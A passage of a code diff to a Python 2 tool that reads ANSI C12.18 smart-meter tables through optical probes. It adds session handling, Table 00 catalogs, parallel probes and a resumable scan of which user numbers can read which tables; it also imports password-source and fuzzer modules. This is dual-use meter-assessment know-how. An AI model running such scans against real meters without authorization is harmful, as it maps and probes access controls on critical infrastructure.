@@ -31,11 +31,25 @@ import os
 import sys
 import time
 import struct
-import binascii
+import itertools
 import byte_tools as bt
 import c12_18_serial as c12serial
 import c12_18_packet as c12packet
+import c12_18_pacing as c12pacing
+import c12_18_session as c12session
+import c12_18_parallel as c12parallel
+import c12_18_checkpoint as c12checkpoint
+import c12_18_passwd_sources as c12passwd
+import c12_18_scheduler as c12scheduler
+import c12_18_ranking as c12ranking
+import c12_18_ledger as c12ledger
+import c12_18_fuzzer as c12fuzzer
+import c12_18_access as c12access
+import c12_18_pipeline as c12pipeline
+import c12_18_catalog as c12catalog
 import c12_18_table00_parser as c12tbl00
+import c12_18_schema as c12schema
+import c12_18_snapshot as c12snapshot
 import c12_18_log_lines as c12loglines
 import ConfigParser
 import warnings
@@ -122,6 +136,52 @@ def do_action_tnego(optic):
 # End Toggle Negotiation Option
 ############################
 
+############################
+# Toggle Pacing Option
+############################
+def do_action_tpacing(optic):
+    '''
+    Action: Toggle whether or not to pace packets by the meter's measured turnaround.
+    When off the fixed command pause is used.
+    '''
+    if optic.packet.state_pacing():
+        optic.packet.set_pacing(False)
+        print "Pacing turned OFF"
+    else:
+        optic.packet.set_pacing(True)
+        print "Pacing turned ON"
+
+    # Set optic.PACING_ON to new value
+    optic.PACING_ON = optic.packet.state_pacing()
+
+    # Return
+    return
+############################
+# End Toggle Pacing Option
+############################
+
+############################
+# Toggle Table 00 Catalog Option
+############################
+def do_action_tcatalog(optic):
+    '''
+    Action: Toggle whether or not the multi-table, decade, and procedure actions skip
+    tables and procedures the meter does not list in Table 00. Turn it off for meters
+    that implement more than they list.
+    '''
+    if optic.CATALOG_ON:
+        optic.CATALOG_ON = False
+        print "Table 00 Catalog turned OFF"
+    else:
+        optic.CATALOG_ON = True
+        print "Table 00 Catalog turned ON"
+
+    # Return
+    return
+############################
+# End Toggle Table 00 Catalog Option
+############################
+
 ############################
 # Terminate Session
 ############################
@@ -135,6 +195,7 @@ def do_action_term(optic):
     # Logoff
     if not optic.packet.send_terminate(optic.SER_CONN0):
         print "Terminate setup failed."
+    optic.session.lost()
 
     # Return
     return
@@ -155,6 +216,15 @@ def do_action_logoff(optic):
     if optic.ONF: optic.ONF.write("Stop Time: " + time.strftime('%X %x %Z') + "\n")
     optic.ONF.close()
 
+    # End the session kept open between actions
+    optic.session.close()
+
+    # Keep what was learned about the meter's timing for the next run
+    c12pacing.save_profiles(optic.PACING_FILE)
+    c12scheduler.save_profiles(optic.LOCKOUT_FILE)
+    optic.ledger.close()
+    optic.snapshots.close()
+
     # Close serial conneciton and quit
     print "Done, Closing out"
     optic.SER_CONN0.close()
@@ -311,6 +381,75 @@ def do_action_test(optic):
 # End Test logon
 ############################
 
+############################
+# Table 00 catalog of the meter on the probe
+############################
+def catalog_meter(optic):
+    '''Return the manufacturer and serial number from Table 01 or None if it cannot be read.'''
+    results = optic.packet.full_table_read(optic.SER_CONN0, 1)
+    if not results[0]:
+        return None
+    meter = c12parallel.meter_identity(optic.packet.parse_rtn_data(results[1])[2])
+    optic.packet.set_meter(meter)
+    return meter
+
+def meter_catalog(optic, refresh = False, meter = None):
+    '''Return the Table 00 catalog of the meter on the probe. Table 00 is only read the first
+        time a meter is seen and the catalog is saved in the log directory. Returns None when
+        the catalog is turned off or the meter cannot be identified, nothing is skipped then.
+        The meter is identified either way so the snapshots are kept by meter.'''
+    if not meter:
+        meter = catalog_meter(optic)
+    if not optic.CATALOG_ON:
+        return None
+    known = c12catalog.get_catalog(meter)
+    catalog = c12catalog.read_catalog(optic.packet, optic.SER_CONN0, meter, refresh)
+    if catalog and catalog is not known:
+        c12catalog.save_catalogs(optic.CATALOG_FILE)
+        print "Saved Table 00 catalog for meter",meter
+        if optic.ONF: optic.ONF.write("Saved Table 00 catalog for meter " + str(meter) + "\n")
+    return catalog
+
+def meter_reaudit(optic):
+    '''Return a REAUDIT of the meter on the probe against its snapshots, or None if Table 00
+        cannot be read. When Table 00 changed the catalog is rebuilt from it.'''
+    meter = catalog_meter(optic)
+    reaudit = c12snapshot.REAUDIT(optic.snapshots, optic.packet.snapshot_meter(optic.SER_CONN0), optic.packet.logon_user)
+    if not reaudit.start(optic.packet, optic.SER_CONN0):
+        return None
+    if optic.CATALOG_ON and meter and (reaudit.tables[0][0] == c12snapshot.CHANGED or not c12catalog.get_catalog(meter)) and c12catalog.add_catalog(meter, reaudit.table00):
+        c12catalog.save_catalogs(optic.CATALOG_FILE)
+        print "Saved Table 00 catalog for meter",meter
+        if optic.ONF: optic.ONF.write("Saved Table 00 catalog for meter " + str(meter) + "\n")
+    return reaudit
+
+def results_log(results):
+    '''Return what the log file keeps for a table read: the snapshot holding the table data,
+        or the data itself when the read was not stored.'''
+    snapshot = getattr(results, 'snapshot', None)
+    if snapshot != None:
+        return "snapshot %d, %d bytes" % (snapshot, len(results[1]))
+    return bt.print_data(results[1])
+
+def catalog_filter(optic, catalog, nums, procedures = False):
+    '''Return the table or procedure numbers in nums that catalog lists.'''
+    if not catalog:
+        return nums
+    if procedures:
+        nums, skipped = catalog.filter_procs(nums)
+        name = "Procedures"
+    else:
+        nums, skipped = catalog.filter_tables(nums)
+        name = "Tables"
+    if skipped:
+        print "Skipping",len(skipped),name,"not listed in Table 00"
+        if optic.ONF: optic.ONF.write("Skipping " + str(len(skipped)) + " " + name + " not listed in Table 00\n")
+        if optic.DEBUG: print 'skipped:',skipped
+    return nums
+############################
+# End Table 00 catalog of the meter on the probe
+############################
+
 ############################
 # Parse the Configuration Table (Table 00)
 ############################
@@ -335,16 +474,11 @@ def do_action_tread00(optic):
     # Get Table information
     table_num  = 0      # Configuration Table is Table 00
 
-    # Setup meter connection
-    if not optic.packet.login_setup(optic.SER_CONN0):
+    # Use the open session or logon and send security code
+    if not optic.session.begin(user_num, optic.PASSWD):
         print "Logon setup failed."
         return
 
-    # Logon and send security code
-    if not optic.packet.login_seq_passwd(optic.SER_CONN0, user_num, optic.PASSWD):
-        print "Logon sequence passwd failed."
-        return
-
     # Read Table
     print "Reading Table:",table_num
     if optic.ONF: optic.ONF.write("Reading Table: " + str(table_num) + "\n")
@@ -357,13 +491,14 @@ def do_action_tread00(optic):
         print "Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>"
         if optic.ONF: optic.ONF.write("Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>\n")
         print "Table ",table_num," results: ",bt.print_data(results[1])
-        if optic.ONF: optic.ONF.write("Table " + str(table_num) + " results: " + bt.print_data(results[1]) + "\n")
+        if optic.ONF: optic.ONF.write("Table " + str(table_num) + " results: " + results_log(results) + "\n")
 
-    # Logoff early because we are just parsing from here
-    #if not optic.packet.send_logoff(optic.SER_CONN0):
-    if not optic.packet.send_terminate(optic.SER_CONN0):
-        print "Logoff setup failed."
-        # Logging off doesn't really matter, provide information
+    # Identify the meter so the other actions can use this Table 00
+    meter = catalog_meter(optic)
+
+    # Done with the meter because we are just parsing from here
+    # Keep the session open for the next action
+    optic.session.end()
 
     # Parsed Data - incoming values [data[:1], length, data[3:(3 + length)], data[-1:]]
     r_response, data_len, r_data, r_crc = optic.packet.parse_rtn_data(results[1])
@@ -372,77 +507,32 @@ def do_action_tread00(optic):
     if optic.ONF: optic.ONF.write("\nParsed Configuration Table Data: " + bt.print_data(r_data) + "\n\n")
 
     # Sort returned data
-    format_cnt_1      = r_data[0]
-    format_cnt_2      = r_data[1]
-    format_cnt_3      = r_data[2]
-    device_class      = r_data[3:7]
-    nameplate_type    = ord(r_data[7])
-    default_set_used  = ord(r_data[8])
-    max_proc_parm_len = ord(r_data[9])
-    max_resp_data_len = ord(r_data[10])
-    std_version_no    = ord(r_data[11])
-    std_revision_no   = ord(r_data[12])
-    dim_std_tbls_used = ord(r_data[13])
-    dim_mfg_tbls_used = ord(r_data[14])
-    dim_std_proc_used = ord(r_data[15])
-    dim_mfg_proc_used = ord(r_data[16])
-    dim_mfg_stat_used = ord(r_data[17])
-    nbr_pending       = ord(r_data[18])
-
-    if optic.DEBUG: print 'format_cnt_1',bt.print_data(format_cnt_1)
-    if optic.DEBUG: print 'format_cnt_2',bt.print_data(format_cnt_2)
-    if optic.DEBUG: print 'format_cnt_3',bt.print_data(format_cnt_3)
-    if optic.DEBUG: print 'device_class',bt.print_data(device_class)
-    if optic.DEBUG: print 'nameplate_type',nameplate_type
-    if optic.DEBUG: print 'default_set_used',default_set_used
-    if optic.DEBUG: print 'max_proc_parm_len',max_proc_parm_len
-    if optic.DEBUG: print 'max_resp_data_len',max_resp_data_len
-    if optic.DEBUG: print 'std_version_no',std_version_no
-    if optic.DEBUG: print 'std_revision_no',std_revision_no
-    if optic.DEBUG: print 'dim_std_tbls_used',dim_std_tbls_used
-    if optic.DEBUG: print 'dim_mfg_tbls_used',dim_mfg_tbls_used
-    if optic.DEBUG: print 'dim_std_proc_used',dim_std_proc_used
-    if optic.DEBUG: print 'dim_mfg_proc_used',dim_mfg_proc_used
-    if optic.DEBUG: print 'dim_mfg_stat_used',dim_mfg_stat_used
-    if optic.DEBUG: print 'nbr_pending',nbr_pending
-
-    tbl_start         = 19
-    std_tbls_used     = r_data[tbl_start:(tbl_start + dim_std_tbls_used)]
-    if optic.DEBUG: print 'std_tbls_used',bt.print_data(std_tbls_used)
-
-    tbl_start         = tbl_start + dim_std_tbls_used
-    mfg_tbls_used     = r_data[tbl_start:(tbl_start + dim_mfg_tbls_used)]
-    if optic.DEBUG: print 'mfg_tbls_used',bt.print_data(mfg_tbls_used)
-
-    tbl_start         = tbl_start + dim_mfg_tbls_used
-    std_proc_used     = r_data[tbl_start:(tbl_start + dim_std_proc_used)]
-    if optic.DEBUG: print 'std_proc_used',bt.print_data(std_proc_used)
-    
-    tbl_start         = tbl_start + dim_std_proc_used
-    mfg_proc_used     = r_data[tbl_start:(tbl_start + dim_mfg_proc_used)]
-    if optic.DEBUG: print 'mfg_proc_used',bt.print_data(mfg_proc_used)
-
-    tbl_start         = tbl_start + dim_mfg_proc_used
-    std_tbls_write    = r_data[tbl_start:(tbl_start + dim_std_tbls_used)]
-    if optic.DEBUG: print 'std_tbls_write',bt.print_data(std_tbls_write)
+    table00 = c12tbl00.parse_table00(r_data)
+    if not table00:
+        print "Could not parse the Configuration Table."
+        if optic.ONF: optic.ONF.write("Could not parse the Configuration Table.\n")
+        return
+    if optic.DEBUG:
+        for name, value in table00.fields.items():
+            if isinstance(value, str):
+                value = bt.print_data(value)
+            print name,value
 
-    tbl_start         = tbl_start + dim_std_tbls_used
-    mfg_tbls_write    = r_data[tbl_start:(tbl_start + dim_mfg_proc_used)]
-    if optic.DEBUG: print 'mfg_tbls_write',bt.print_data(mfg_tbls_write)
-    
     # Print lists of tables and procedures for later use
-    print 'Standard Tables',c12tbl00.get_tables(std_tbls_used,c12tbl00.std_base)
-    if optic.ONF: optic.ONF.write("\nStandard Tables: " + str(c12tbl00.get_tables(std_tbls_used,c12tbl00.std_base)) + "\n\n")
-    print 'Manufacturer Tables',c12tbl00.get_tables(mfg_tbls_used,c12tbl00.mfg_base)
-    if optic.ONF: optic.ONF.write("\nManufacturer Tables: " + str(c12tbl00.get_tables(mfg_tbls_used,c12tbl00.mfg_base)) + "\n\n")
-    print 'Standard Procedures',c12tbl00.get_procs(std_proc_used,c12tbl00.std_base)
-    if optic.ONF: optic.ONF.write("\nStandard Procedures: " + str(c12tbl00.get_procs(std_proc_used,c12tbl00.std_base)) + "\n\n")
-    print 'Manufacturer Procedures',c12tbl00.get_procs(mfg_proc_used,c12tbl00.mfg_proc_base)
-    if optic.ONF: optic.ONF.write("\nManufacturer Procedures: " + str(c12tbl00.get_procs(mfg_proc_used,c12tbl00.mfg_proc_base)) + "\n\n")
-    print 'Standard Writable Tables',c12tbl00.get_tables(std_tbls_write,c12tbl00.std_base)
-    if optic.ONF: optic.ONF.write("\nStandard Writable Tables: " + str(c12tbl00.get_tables(std_tbls_write,c12tbl00.std_base)) + "\n\n")
-    print 'Manufacturer Writable Tables',c12tbl00.get_tables(mfg_tbls_write,c12tbl00.mfg_base)
-    if optic.ONF: optic.ONF.write("\nManufacturer Writable Tables: " + str(c12tbl00.get_tables(mfg_tbls_write,c12tbl00.mfg_base)) + "\n\n")
+    for name, nums in [['Standard Tables', table00.std_tables],
+                       ['Manufacturer Tables', table00.mfg_tables],
+                       ['Standard Procedures', table00.std_procs],
+                       ['Manufacturer Procedures', table00.mfg_procs],
+                       ['Standard Writable Tables', table00.std_write_tables],
+                       ['Manufacturer Writable Tables', table00.mfg_write_tables]]:
+        print name,nums
+        if optic.ONF: optic.ONF.write("\n" + name + ": " + str(nums) + "\n\n")
+
+    # Keep the lists for the multi-table and procedure actions
+    if meter and c12catalog.add_catalog(meter, r_data):
+        c12catalog.save_catalogs(optic.CATALOG_FILE)
+        print "Saved Table 00 catalog for meter",meter
+        if optic.ONF: optic.ONF.write("Saved Table 00 catalog for meter " + str(meter) + "\n")
 
     # Return
     return
@@ -474,13 +564,8 @@ def do_action_tread01(optic):
     # Get Table information
     table_num  = 1      # General manufacturer Identification Table is Table 01
 
-    # Setup meter connection
-    if not optic.packet.login_setup(optic.SER_CONN0):
-        print "Logon setup failed."
-        return
-
-    # Logon and send security code
-    if not optic.packet.login_seq_passwd(optic.SER_CONN0, user_num, optic.PASSWD):
+    # Use the open session or logon and send security code
+    if not optic.session.begin(user_num, optic.PASSWD):
         print "Logon setup failed."
         return
 
@@ -496,13 +581,11 @@ def do_action_tread01(optic):
         print "Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>"
         if optic.ONF: optic.ONF.write("Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>\n")
         print "Table ",table_num," results: ",bt.print_data(results[1])
-        if optic.ONF: optic.ONF.write("Table " + str(table_num) + " results: " + bt.print_data(results[1]) + "\n")
+        if optic.ONF: optic.ONF.write("Table " + str(table_num) + " results: " + results_log(results) + "\n")
 
-    # Logoff early because we are just parsing from here
-    #if not optic.packet.send_logoff(optic.SER_CONN0):
-    if not optic.packet.send_terminate(optic.SER_CONN0):
-        print "Logoff setup failed."
-        # Logging off doesn't really matter, provide information
+    # Done with the meter because we are just parsing from here
+    # Keep the session open for the next action
+    optic.session.end()
 
     # Parsed Data - incoming values [data[:1], length, data[3:(3 + length)], data[-1:]]
     r_response, data_len, r_data, r_crc = optic.packet.parse_rtn_data(results[1])
@@ -511,29 +594,23 @@ def do_action_tread01(optic):
     if optic.ONF: optic.ONF.write("\nParsed General manufacturer Identification Table Data: " + bt.print_data(r_data) + "\n\n")
 
     # Sort returned data
-    manufacturer      = r_data[0:4]
-    ed_model          = r_data[4:12]
-    hw_version_nm     = ord(r_data[13])
-    hw_revision_nm    = ord(r_data[14])
-    fw_version_nm     = ord(r_data[15])
-    fw_revision_nm    = ord(r_data[16])
-    mfg_serial_nm     = r_data[17:]
-    
-    # Print lists of tables and procedures for later use
-    print 'Manufacturer',manufacturer
-    if optic.ONF: optic.ONF.write("\nManufacturer: " + manufacturer + "\n\n")
-    print 'End Device Model',ed_model
-    if optic.ONF: optic.ONF.write("\nEnd Device Model: " + ed_model + "\n\n")
-    print 'Hardware Version Number',hw_version_nm
-    if optic.ONF: optic.ONF.write("\nHardware Version Number: " + str(hw_version_nm) + "\n\n")
-    print 'Hardware Revision Number',hw_version_nm
-    if optic.ONF: optic.ONF.write("\nHardware Revision Number: " + str(hw_version_nm) + "\n\n")
-    print 'Firmware Version Number',fw_version_nm
-    if optic.ONF: optic.ONF.write("\nHardware Version Number: " + str(fw_version_nm) + "\n\n")
-    print 'Firmware Revision Number',fw_version_nm
-    if optic.ONF: optic.ONF.write("\nHardware Revision Number: " + str(fw_version_nm) + "\n\n")
-    print 'Manufacturer Serial Number',mfg_serial_nm
-    if optic.ONF: optic.ONF.write("\nManufacturer Serial Number: " + mfg_serial_nm + "\n\n")
+    table01 = c12schema.decode(1, r_data)
+    if not table01:
+        print "Could not parse the General Manufacturer Identification Table."
+        if optic.ONF: optic.ONF.write("Could not parse the General Manufacturer Identification Table.\n")
+        return
+
+    # Print identification information
+    for label, name in [['Manufacturer', 'manufacturer'],
+                        ['End Device Model', 'ed_model'],
+                        ['Hardware Version Number', 'hw_version_nm'],
+                        ['Hardware Revision Number', 'hw_revision_nm'],
+                        ['Firmware Version Number', 'fw_version_nm'],
+                        ['Firmware Revision Number', 'fw_revision_nm']]:
+        print label,table01[name]
+        if optic.ONF: optic.ONF.write("\n" + label + ": " + str(table01[name]) + "\n\n")
+    print 'Manufacturer Serial Number',c12parallel.meter_serial(table01)
+    if optic.ONF: optic.ONF.write("\nManufacturer Serial Number: " + c12parallel.meter_serial(table01) + "\n\n")
 
     # Return
     return
@@ -563,13 +640,8 @@ def do_action_tread(optic):
     table_num  = raw_input(num_menu)
     table_num  = int(table_num)
 
-    # Setup meter connection
-    if not optic.packet.login_setup(optic.SER_CONN0):
-        print "Logon setup failed."
-        return
-
-    # Logon and send security code
-    if not optic.packet.login_seq_passwd(optic.SER_CONN0, user_num, optic.PASSWD):
+    # Use the open session or logon and send security code
+    if not optic.session.begin(user_num, optic.PASSWD):
         print "Logon setup failed."
         return
 
@@ -585,12 +657,10 @@ def do_action_tread(optic):
         print "Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>"
         if optic.ONF: optic.ONF.write("Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>\n")
         print "Table ",table_num," results: ",bt.print_data(results[1])
-        if optic.ONF: optic.ONF.write("Table " + str(table_num) + " results: " + bt.print_data(results[1]) + "\n")
+        if optic.ONF: optic.ONF.write("Table " + str(table_num) + " results: " + results_log(results) + "\n")
 
-    # Logoff
-    #if not optic.packet.send_logoff(optic.SER_CONN0):
-    if not optic.packet.send_terminate(optic.SER_CONN0):
-        print "Logoff setup failed."
+    # Keep the session open for the next action
+    optic.session.end()
 
     # Return
     return
@@ -598,6 +668,144 @@ def do_action_tread(optic):
 # End Read a table
 ############################
 
+############################
+# Read part of a table
+############################
+def do_action_pread(optic):
+    '''
+    Action: Read a range of bytes from a Standard or Manufacturer table. The range is read in
+    pieces that fit the negotiated packet size so large tables, such as load profile and event
+    logs, do not have to come back in a single response.
+    '''
+
+    print "Running: Read Table Range Function"
+    if optic.ONF: optic.ONF.write("Running: Read Table Range function\n")
+
+    # Get new user number or use default from configuration file
+    user_num = raw_input(user_menu)
+    if user_num == '':
+        user_num = optic.USER_NUM
+    else:
+        user_num = int(user_num)
+    print "Logging on as User: ",user_num
+    if optic.ONF: optic.ONF.write("Logging on as User: " + str(user_num) + "\n")
+
+    # Get Table information
+    table_num  = raw_input(num_menu)
+    table_num  = int(table_num)
+    offset     = raw_input(offset_menu)
+    if offset == '':
+        offset = 0
+    else:
+        offset = int(offset)
+    count      = raw_input(count_menu)
+    if count == '':
+        size = None
+    else:
+        size = offset + int(count)
+
+    # Use the open session or logon and send security code
+    if not optic.session.begin(user_num, optic.PASSWD):
+        print "Logon setup failed."
+        return
+
+    # Read Table
+    print "Reading Table:",table_num,"from offset",offset
+    if optic.ONF: optic.ONF.write("Reading Table: " + str(table_num) + " from offset " + str(offset) + "\n")
+
+    for results in optic.packet.chunked_table_read(optic.SER_CONN0, table_num, size = size, offset = offset):
+        print "Table ",table_num," offset ",results[0]," results: ",bt.print_data(results[1])
+        if optic.ONF: optic.ONF.write("Table " + str(table_num) + " offset " + str(results[0]) + " results: " + bt.print_data(results[1]) + "\n")
+
+    if size != None and optic.packet.read_offset < size:
+        print "Read table range stopped at offset",optic.packet.read_offset
+        if optic.ONF: optic.ONF.write("Read table range stopped at offset " + str(optic.packet.read_offset) + "\n")
+
+    # Keep the session open for the next action
+    optic.session.end()
+
+    # Return
+    return
+############################
+# End Read part of a table
+############################
+
+############################
+# Run on multiple probes
+############################
+def do_action_parallel(optic):
+    '''
+    Action: Run a table read, procedure run, or logon test on several optical probes at the
+    same time. Each probe gets its own serial connection. The probe used by the other actions
+    is closed while the run is going so it can be one of the probes.
+
+    Note: this run is timed.
+    '''
+
+    print "Running: Multiple Probes Function"
+    if optic.ONF: optic.ONF.write("Running: Multiple Probes Function\n")
+
+    # Get new user number or use default from configuration file
+    user_num = raw_input(user_menu)
+    if user_num == '':
+        user_num = optic.USER_NUM
+    else:
+        user_num = int(user_num)
+    print "Logging on as User: ",user_num
+    if optic.ONF: optic.ONF.write("Logging on as User: " + str(user_num) + "\n")
+
+    ports = raw_input(ports_menu)
+    if ports == '':
+        ports = [optic.COMM_PORT]
+    else:
+        ports = [e.strip() for e in ports.split(',') if e.strip()]
+
+    job = raw_input(parallel_menu)
+    if job == '1':
+        table_nums = raw_input(mtable_menu)
+        if table_nums == '' or table_nums.lower() == 'all':
+            table_nums = range(170)
+        else:
+            table_nums = [int(e) for e in table_nums.split(',')]
+        action = c12parallel.probe_read_tables
+        args   = (user_num, optic.PASSWD, table_nums, optic.CATALOG_ON)
+    elif job == '2':
+        proc_nums = raw_input(mproc_menu)
+        proc_nums = [int(e) for e in proc_nums.split(',')]
+        action = c12parallel.probe_run_procs
+        args   = (user_num, optic.PASSWD, proc_nums, '', optic.CATALOG_ON)
+    else:
+        action = c12parallel.probe_logon
+        args   = (user_num, optic.PASSWD)
+
+    # Release the main probe so it can be used in the run
+    optic.session.close()
+    optic.SER_CONN0.close()
+
+    print "Multiple Probes Start Time:",time.strftime('%X %x %Z')
+    if optic.ONF: optic.ONF.write("Multiple Probes Start Time: " + time.strftime('%X %x %Z') + "\n")
+
+    probes = c12parallel.PARALLEL(ports, baud = optic.COMM_BAUD, invert = optic.INVERT, nego_on = optic.NEGO_ON, debug = optic.DEBUG, snapshots = optic.snapshots)
+    reports = probes.run(action, *args)
+    probes.close()
+    c12catalog.save_catalogs(optic.CATALOG_FILE)
+
+    for line in c12parallel.report_lines(reports):
+        print line
+        if optic.ONF: optic.ONF.write(line + "\n")
+
+    print "Multiple Probes Stop Time:",time.strftime('%X %x %Z')
+    if optic.ONF: optic.ONF.write("Multiple Probes Stop Time: " + time.strftime('%X %x %Z') + "\n")
+
+    # Reopen the main probe
+    optic.SER_CONN0.serInit(port = optic.COMM_PORT, baud = optic.COMM_BAUD, invert = optic.INVERT)
+
+    # Return
+    return
+############################
+# End Run on multiple probes
+############################
+
 ############################
 # Read a multiple tables
 ############################
@@ -638,6 +846,9 @@ def do_action_mread(optic):
         for e in range(len(table_nums)):
             table_nums[e] = int(table_nums[e])
 
+    # Only transfer the tables that changed since the last audit
+    incremental = raw_input(reaudit_menu).lower().startswith('y')
+
     if table_type:
         print "Reading Manufacture Tables"
         if optic.ONF: optic.ONF.write("Reading Manufacture Tables\n")
@@ -649,22 +860,42 @@ def do_action_mread(optic):
     print "Multi-table Read Start Time:",time.strftime('%X %x %Z')
     if optic.ONF: optic.ONF.write("Multi-table Read Start Time: " + time.strftime('%X %x %Z') + "\n")
 
-    # Setup meter connection
-    if not optic.packet.login_setup(optic.SER_CONN0):
+    # Use the open session or logon and send security code
+    if not optic.session.begin(user_num, optic.PASSWD):
         print "Logon setup failed."
         return
 
-    # Logon and send security code
-    if not optic.packet.login_seq_passwd(optic.SER_CONN0, user_num, optic.PASSWD):
-        print "Logon setup failed."
-        return
+    # Skip tables the meter does not list in Table 00
+    reaudit = None
+    if incremental:
+        reaudit = meter_reaudit(optic)
+        if not reaudit:
+            print "Read table failed."
+            return
+        catalog = meter_catalog(optic, meter = optic.packet.meter)
+    else:
+        catalog = meter_catalog(optic)
+    table_nums = catalog_filter(optic, catalog, table_nums)
 
     for table_num in table_nums:
         # Read Table
         print "Reading Table:",table_num
         if optic.ONF: optic.ONF.write("Reading Table: " + str(table_num) + "\n")
 
-        results = optic.packet.full_table_read(optic.SER_CONN0, table_num)
+        if reaudit:
+            state, results = reaudit.read(optic.packet, optic.SER_CONN0, table_num)
+            if state == c12snapshot.MATCHED:
+                snapshot = reaudit.tables[table_num][1]
+                print "Table",table_num,"not transferred, start and length match snapshot",snapshot['id'],"from",time.strftime('%X %x %Z', time.localtime(snapshot['last']))
+                if optic.ONF: optic.ONF.write("Table " + str(table_num) + " not transferred, start and length match snapshot " + str(snapshot['id']) + "\n")
+                continue
+            # Keep going, the report lists the tables that were not read
+            if not results[0]:
+                print "Read table failed:",results.reason()
+                if optic.ONF: optic.ONF.write("Table " + str(table_num) + " read failed: " + results.reason() + "\n")
+                continue
+        else:
+            results = optic.packet.full_table_read(optic.SER_CONN0, table_num)
         if not results[0]:
             print "Read table failed."
             return
@@ -672,12 +903,16 @@ def do_action_mread(optic):
             print "Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>"
             if optic.ONF: optic.ONF.write("Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>\n")
             print "Table",table_num,"results:",bt.print_data(results[1])
-            if optic.ONF: optic.ONF.write("Table " + str(table_num) + " results: " + bt.print_data(results[1]) + "\n")
+            if optic.ONF: optic.ONF.write("Table " + str(table_num) + " results: " + results_log(results) + "\n")
 
-    # Logoff
-    #if not optic.packet.send_logoff(optic.SER_CONN0):
-    if not optic.packet.send_terminate(optic.SER_CONN0):
-        print "Logoff setup failed."
+    # Keep the session open for the next action
+    optic.session.end()
+
+    # Report what changed since the last audit
+    if reaudit:
+        for line in reaudit.lines():
+            print line
+            if optic.ONF: optic.ONF.write(line + "\n")
 
     # Stop and record time
     print "Multi-table Read Stop Time:",time.strftime('%X %x %Z')
@@ -692,11 +927,43 @@ def do_action_mread(optic):
 ############################
 # Read multiple tables as different users
 ############################
+def access_scan(optic, users, tables):
+    '''Scan which of tables each user can read with the current password. Offers to resume a
+    previous scan of the same meter, users, and tables.'''
+    if not optic.packet.login_setup(optic.SER_CONN0):
+        print "Logon setup failed."
+        return None
+    # Meters only answer table reads after a logon, identify the meter as the first user
+    logged_on = optic.packet.login_seq_passwd(optic.SER_CONN0, users[0], optic.PASSWD)
+    meter = brute_meter(optic)
+    catalog = None
+    if meter != optic.COMM_PORT:
+        catalog = meter_catalog(optic, meter = meter)
+    tables = catalog_filter(optic, catalog, tables)
+    if not tables:
+        print "No tables left to scan."
+        optic.packet.send_terminate(optic.SER_CONN0)
+        return None
+    scan = c12access.ACCESS_SCAN(optic.packet, optic.SER_CONN0, optic.PASSWD, users, tables, optic.LOG_DIR, meter, optic.ONF)
+    scan.debug = optic.DEBUG
+    scan.session = bool(logged_on)
+    if scan.load():
+        print "Previous scan finished",len(scan.done),"users"
+        if raw_input(resume_menu).lower().startswith('n'):
+            scan.remove()
+        elif optic.ONF: optic.ONF.write("Resuming access scan after " + str(len(scan.done)) + " users\n")
+    matrix = scan.run(ready = True)
+    for line in scan.report():
+        print line
+        if optic.ONF: optic.ONF.write(line + "\n")
+    return matrix
+
 def do_action_fmread(optic):
     '''
     Action: Read multiple tables as different users. User will provide a list of users
     or select all users which is user number 0 thru 15. User will also be prompted for
-    a list of tables.
+    a list of tables. Prints which tables each group of users can read. The scan can be
+    resumed.
     '''
 
     print "Running: Read Multiple Tables as different users Function"
@@ -746,45 +1013,8 @@ def do_action_fmread(optic):
     print "Multi-table Read with different users Start Time:",time.strftime('%X %x %Z')
     if optic.ONF: optic.ONF.write("Multi-table Read with different users Start Time: " + time.strftime('%X %x %Z') + "\n")
 
-    if not optic.packet.login_setup(optic.SER_CONN0):
-        print "Logon setup failed."
-        return
-
-    # Read all tables as one user at a time
-    for user in range(user_num_s,user_num_e):
-        # Setup meter connection
-        print "Logged on as User: ",user
-        if optic.ONF: optic.ONF.write("Logged on as User: " + str(user) + "\n")
-
-        if not optic.packet.login_setup(optic.SER_CONN0):
-            print "Logon setup failed."
-            return
-
-        # Logon
-        if not optic.packet.login_seq_passwd(optic.SER_CONN0, user, optic.PASSWD):
-            print "Logon setup failed."
-            return
-
-        # Loop thru tables
-        for table_num in table_nums:
-            # Read Table
-            print "Reading Table:",table_num
-            if optic.ONF: optic.ONF.write("Reading Table: " + str(table_num) + "\n")
-
-            results = optic.packet.full_table_read(optic.SER_CONN0, table_num)
-            if not results[0]:
-                print "Read table failed."
-                #continue
-            else:
-                print "Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>"
-                if optic.ONF: optic.ONF.write("Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>\n")
-                print "Table",table_num,"results:",bt.print_data(results[1])
-                if optic.ONF: optic.ONF.write("Table " + str(table_num) + " results: " + bt.print_data(results[1]) + "\n")
-
-        # Logoff
-        #if not optic.packet.send_logoff(optic.SER_CONN0):
-        if not optic.packet.send_terminate(optic.SER_CONN0):
-            print "Logoff setup failed."
+    # Read all tables as every user
+    access_scan(optic, range(user_num_s,user_num_e), table_nums)
     
     # Stop and record time
     print "Multi-table Read with different users Stop Time:",time.strftime('%X %x %Z')
@@ -803,7 +1033,7 @@ def do_action_fsread(optic):
     '''
     Action: Read a single table as different users. User will provide a list of users
     or select all users which is user number 0 thru 15. User will also be prompted for
-    the table to read.
+    the table to read. Prints which users can read the table. The scan can be resumed.
     '''
 
     print "Running: Read Table as different users Function"
@@ -835,39 +1065,8 @@ def do_action_fsread(optic):
     print "Single Table Read as different users Start Time:",time.strftime('%X %x %Z')
     if optic.ONF: optic.ONF.write("Single Table Read as different users Start Time: " + time.strftime('%X %x %Z') + "\n")
 
-    for user in range(user_num_s,user_num_e):
-        # Setup meter connection
-        print "Logging on as User: ",user
-        if optic.ONF: optic.ONF.write("Logged on as User: " + str(user) + "\n")
-
-        # Setup meter connection
-        if not optic.packet.login_setup(optic.SER_CONN0):
-            print "Logon setup failed."
-            return
-
-        # Logon and security code
-        if not optic.packet.login_seq_passwd(optic.SER_CONN0, user, optic.PASSWD):
